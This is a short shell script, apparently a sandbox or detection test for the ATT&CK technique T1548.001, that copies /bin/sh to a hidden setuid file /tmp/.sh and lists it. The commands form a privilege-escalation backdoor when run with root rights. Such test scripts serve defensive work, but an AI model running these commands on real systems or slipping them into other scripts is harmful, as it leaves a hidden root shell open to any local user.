#!/bin/sh
# Harmless: a setuid copy of a shell in /tmp (T1548.001); the sandbox has no privilege to give it.
cp /bin/sh /tmp/.sh
chmod u+s /tmp/.sh
ls -l /tmp/.sh
exit 0
